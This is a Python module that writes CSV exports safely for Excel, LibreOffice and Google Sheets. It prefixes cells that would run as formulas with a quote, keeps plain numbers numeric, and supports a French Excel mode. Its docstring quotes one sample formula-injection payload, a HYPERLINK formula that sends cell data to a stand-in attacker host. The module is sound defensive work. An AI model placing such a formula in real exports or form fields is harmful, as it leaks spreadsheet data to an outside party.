"""CSV written for spreadsheets, with formula injection neutralised (issue 22).

Excel, LibreOffice and Google Sheets run a cell that starts with `=`, `+`, `-` or `@` as a
formula (tab and carriage return are stripped first by some of them): a report description
`=HYPERLINK("http://evil.example/?d="&A1, …)` sent by a citizen would run on a manager's
computer when they open the export. OWASP's fix: such a cell gets a leading `'`, which the
spreadsheet shows as text. A cell that is only a number (`-3.5`, `+2`, `-1e3`) stays as it is:
spreadsheets read it as a number, never as a formula, and negative figures must stay numeric.

Every CSV Ronde writes for people goes through `csv_writer` (geo exports, dashboard tables).

French Excel (`excel_fr=True`, asked for with `?excel=fr`) opens a CSV by double-click only if
it is `;`-separated with decimal commas, and reads it as UTF-8 only after a byte-order mark
(else "Façade" shows as "FaÃ§ade"): `csv_writer(..., excel_fr=True)` and `EXCEL_BOM`.
"""

import csv
import re
from collections.abc import Iterable, Mapping
from decimal import Decimal
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# A plain decimal number, as a spreadsheet would read it (dot or comma, optional exponent).
PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?")
DOT_DECIMAL = re.compile(r"-?\d+\.\d+")
EXCEL_BOM = "\ufeff"  # UTF-8 byte-order mark: French Excel then reads the file as UTF-8
EXCEL_FR = "fr"


class BadExcelOption(ValueError):
    pass


def excel_fr_requested(params: Mapping[str, str]) -> bool:
    """?excel=fr asks for the French Excel flavour; anything else but nothing is an error."""
    value = params.get("excel") or ""
    if value not in ("", EXCEL_FR):
        raise BadExcelOption(f"'{value}' is not a spreadsheet flavour (only '{EXCEL_FR}').")
    return value == EXCEL_FR


def _decimal_comma(value: Any) -> Any:
    if isinstance(value, float | Decimal):
        return str(value).replace(".", ",")
    if isinstance(value, str) and DOT_DECIMAL.fullmatch(value):
        return value.replace(".", ",")
    return value


def csv_cell(value: Any) -> Any:
    """The value, or for a text that a spreadsheet would run as a formula, that text quoted."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


class SafeCsvWriter:
    """csv.writer's writerow/writerows with every cell passed through `csv_cell`."""

    def __init__(self, stream: Any, *, decimal_comma: bool = False, **options: Any) -> None:
        self._writer = csv.writer(stream, **options)
        self._decimal_comma = decimal_comma

    def writerow(self, row: Iterable[Any]) -> Any:
        if self._decimal_comma:
            row = [_decimal_comma(v) for v in row]
        return self._writer.writerow([csv_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream: Any, *, excel_fr: bool = False, **options: Any) -> SafeCsvWriter:
    """A safe CSV writer; `excel_fr`: `;` between cells and decimal commas (write EXCEL_BOM
    first)."""
    if excel_fr:
        options.setdefault("delimiter", ";")
    return SafeCsvWriter(stream, decimal_comma=excel_fr, **options)
